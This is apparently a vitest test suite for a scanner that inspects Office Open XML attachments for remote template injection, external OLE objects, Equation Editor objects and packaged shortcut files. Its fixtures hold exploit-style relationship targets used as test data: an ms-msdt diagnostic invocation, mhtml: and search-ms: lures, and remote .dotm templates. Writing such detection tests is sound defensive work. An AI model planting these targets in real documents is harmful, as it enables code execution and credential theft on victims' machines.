import { describe, expect, it } from 'vitest';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import * as o from '../../../../test-fixtures/attachments/office-payloads.mjs';
import { EMBEDDING_MAX_BYTES, inspectOoxml, ooxmlObservations, OOXML_MAX_LINKS, readRelationships, RELS_MAX_BYTES, RELS_MAX_PARTS } from './ooxml.js';
import { openZip } from './zip.js';

const inspect = async (zip: Buffer) => {
  const z = await openZip(zip, 10_000);
  try {
    return await inspectOoxml(z);
  } finally {
    z.close();
  }
};
const observe = async (zip: Buffer) => ooxmlObservations(await inspect(zip));

describe('OOXML relationships', () => {
  it('reads relationships with XML entities decoded, the type reduced to its last part', () => {
    const xml = Buffer.from(
      '<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" ' +
        'Target="&#x6D;html:http://203.0.113.7/a.html!x-usc:a&amp;b" TargetMode="External"/><Relationship Type="http://purl.oclc.org/ooxml/officeDocument/relationships/image" Target="media/a.png"/></Relationships>',
    );
    expect(readRelationships(xml)).toEqual([
      { type: 'oleObject', target: 'mhtml:http://203.0.113.7/a.html!x-usc:a&b', external: true },
      { type: 'image', target: 'media/a.png', external: false },
    ]);
  });

  it('reports a template loaded from a web server (template injection)', async () => {
    expect(await observe(await o.makeRemoteTemplateDocx())).toEqual([
      {
        kind: 'attachment.external-object',
        detail: 'OOXML document loads its template from https://office-templates.example.net/mau/bao-cao.dotm when it opens (template injection)',
        tags: ['attached-template', 'https', 'ooxml'],
      },
    ]);
  });

  it('reports templates, OLE objects, frames and sub-documents on a file server too', async () => {
    const docx = await o.makeDocx({
      settings: [{ type: 'attachedTemplate', target: '\\\\203.0.113.7\\mau\\a.dotm', external: true }],
      document: [
        { type: 'oleObject', target: 'http://203.0.113.7/a.html!', external: true },
        { type: 'subDocument', target: 'file://fileserver/share/chuong-2.docx', external: true },
        { type: 'frame', target: 'https://203.0.113.7/frame.docx', external: true },
      ],
    });
    const [finding] = await observe(docx);
    expect(finding).toMatchObject({ kind: 'attachment.external-object' });
    expect(finding!.tags).toEqual(['ole-object', 'sub-document', 'frame', 'attached-template', 'http', 'file', 'https', 'unc', 'ooxml']);
  });

  it('reports mhtml:, ms-msdt: and search-ms: targets as exploits, hyperlinks included', async () => {
    expect(await observe(await o.makeMhtmlOleDocx())).toEqual([
      {
        kind: 'attachment.exploit',
        detail: 'OOXML document with oleObject relationship to mhtml:http://203.0.113.7/tai-lieu.html!x-usc:http://203.0.113.7/tai-lieu.html (mhtml: an MHTML page loaded inside Office (CVE-2021-40444))',
        tags: ['mhtml', 'ooxml'],
      },
    ]);
    const msdt = await o.makeDocx({
      document: [
        { type: 'oleObject', target: 'ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=x"', external: true },
        { type: 'hyperlink', target: 'search-ms:query=hoa-don&crumb=location:\\\\203.0.113.7@80\\share', external: true },
      ],
    });
    expect((await observe(msdt)).map((f) => [f.kind, f.tags])).toEqual([['attachment.exploit', ['ms-msdt', 'search-ms', 'ooxml']]]);
  });

  it('does not report a template on the author\'s disk, a relative target, or a hyperlink, but keeps hyperlinks for the URL checks', async () => {
    const r = await inspect(await o.makeHyperlinkDocx('https://www.example.org/ke-hoach-2024'));
    expect(ooxmlObservations(r)).toEqual([]);
    expect(r.hyperlinks).toEqual(['https://www.example.org/ke-hoach-2024']);
    const local = await inspect(await o.makeDocx({ document: [{ type: 'hyperlink', target: 'file:///C:/So%20lieu/2024.xlsx', external: true }, { type: 'hyperlink', target: 'mailto:vanthu@example.org', external: true }] }));
    expect(local.hyperlinks).toEqual([]);
    const internal = await o.makeDocx({ document: [{ type: 'oleObject', target: 'embeddings/oleObject1.bin' }, { type: 'attachedTemplate', target: 'http://203.0.113.7/x.dotm' }] });
    expect(await observe(internal)).toEqual([]); // not TargetMode="External": a part of the package, nothing is fetched
  });

  it(`keeps at most ${OOXML_MAX_LINKS} distinct hyperlinks`, async () => {
    const links = Array.from({ length: OOXML_MAX_LINKS + 20 }, (_, i) => ({ type: 'hyperlink', target: `https://h${i % (OOXML_MAX_LINKS + 10)}.example.org/`, external: true }));
    expect((await inspect(await o.makeDocx({ document: links }))).hyperlinks).toHaveLength(OOXML_MAX_LINKS);
  });

  it('finds Equation and Package objects among the embeddings, and says nothing of an embedded chart', async () => {
    const docx = await o.makeDocx({
      files: {
        'word/embeddings/oleObject1.bin': o.makeEquationOleObject(),
        'word/embeddings/oleObject2.bin': o.makeCompoundFile({ '/\u0001Ole10Native': o.ole10NativeStream('thu-moi.lnk', o.FAKE_PROGRAM) }),
        'word/embeddings/oleObject3.bin': o.makeExcelObject(),
      },
    });
    expect(await observe(docx)).toEqual([
      { kind: 'attachment.exploit', detail: 'OOXML document with a Microsoft Equation Editor object ("Equation.3"), the target of CVE-2017-11882 / CVE-2018-0802', tags: ['equation-editor', 'ooxml'] },
      { kind: 'attachment.embedded-object', detail: 'OOXML document with packaged file "thu-moi.lnk"', tags: ['package', 'lnk', 'executable', 'ooxml'] },
    ]);
    expect(await observe(await o.makeDocx({ files: { 'xl/embeddings/oleObject1.bin': o.makeExcelObject() } }))).toEqual([]);
  });

  describe('bad input and limits', () => {
    it('reads a truncated .rels part as far as it goes', async () => {
      const xml = o.relsXml([{ type: 'attachedTemplate', target: 'https://203.0.113.7/a.dotm', external: true }, { type: 'hyperlink', target: 'https://b.example.org/', external: true }]);
      const cut = xml.slice(0, xml.indexOf('<Relationship Id="rId2"') + 40);
      const r = await inspect(await o.makeDocx({ files: { 'word/_rels/settings.xml.rels': cut } }));
      expect(r.remote.map((x) => x.target)).toEqual(['https://203.0.113.7/a.dotm']);
      expect(() => readRelationships(Buffer.from('<Relationship Target="'))).not.toThrow();
      expect(readRelationships(Buffer.from([0xff, 0xfe, 0x00, 0xd8]))).toEqual([]);
    });

    it('reads a UTF-16 .rels part', () => {
      const xml = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(o.relsXml([{ type: 'frame', target: 'https://203.0.113.7/f', external: true }]), 'utf16le')]);
      expect(readRelationships(xml)).toEqual([{ type: 'frame', target: 'https://203.0.113.7/f', external: true }]);
    });

    it(`reads only the first ${RELS_MAX_BYTES} bytes of a .rels part`, async () => {
      const rel = (t: string) => `<Relationship Id="x" Type="attachedTemplate" Target="${t}" TargetMode="External"/>`;
      const pad = `<!--${'x'.repeat(RELS_MAX_BYTES)}-->`;
      const early = await inspect(await o.makeDocx({ files: { 'word/_rels/settings.xml.rels': `<Relationships>${rel('https://203.0.113.7/a.dotm')}${pad}</Relationships>` } }));
      expect(early.remote).toHaveLength(1);
      const late = await inspect(await o.makeDocx({ files: { 'word/_rels/settings.xml.rels': `<Relationships>${pad}${rel('https://203.0.113.7/a.dotm')}</Relationships>` } }));
      expect(late.remote).toHaveLength(0);
    });

    it(`reads at most ${RELS_MAX_PARTS} .rels parts`, async () => {
      const files: Record<string, string> = {};
      for (let i = 0; i < RELS_MAX_PARTS + 5; i++) files[`xl/worksheets/_rels/sheet${String(i).padStart(4, '0')}.xml.rels`] = o.relsXml([]);
      files['xl/worksheets/_rels/zzz.xml.rels'] = o.relsXml([{ type: 'oleObject', target: 'https://203.0.113.7/o', external: true }]);
      const r = await inspect(await o.makeDocx({ files }));
      expect(r.partsRead).toBe(RELS_MAX_PARTS);
      expect(r.remote).toEqual([]);
    });

    it('leaves an embedded object bigger than the cap to clamd', async () => {
      const big = Buffer.concat([o.makeEquationOleObject(), Buffer.alloc(EMBEDDING_MAX_BYTES)]);
      expect(await observe(await o.makeDocx({ files: { 'word/embeddings/oleObject1.bin': big } }))).toEqual([]);
    });

    it('reports a document none of whose parts can be read as uninspectable, not one with a single bad part', async () => {
      const docx = await o.makeRemoteTemplateDocx();
      const z = await openZip(docx, 100);
      const failing = { ...z, read: () => Promise.reject(new Error('invalid distance too far back')) };
      const broken = await inspectOoxml(failing);
      z.close();
      expect(ooxmlObservations(broken)).toEqual([
        { kind: 'attachment.uninspectable', detail: 'OOXML document parts cannot be read: _rels/.rels, word/_rels/document.xml.rels, word/_rels/settings.xml.rels', tags: ['ooxml'] },
      ]);
      const z2 = await openZip(docx, 100);
      const oneBad = { ...z2, read: (e: (typeof z2.entries)[number], max: number, opts?: { truncate?: boolean }) => (e.name === '_rels/.rels' ? Promise.reject(new Error('bad')) : z2.read(e, max, opts)) };
      const partly = ooxmlObservations(await inspectOoxml(oneBad));
      z2.close();
      expect(partly.map((f) => f.kind)).toEqual(['attachment.external-object']);
    });

    it('has nothing to say about a document without relationships or objects', async () => {
      expect(await observe(await p.makeWordDocument())).toEqual([]);
      expect(await observe(await p.makeZip({ '[Content_Types].xml': '<Types/>' }))).toEqual([]);
    });
  });
});
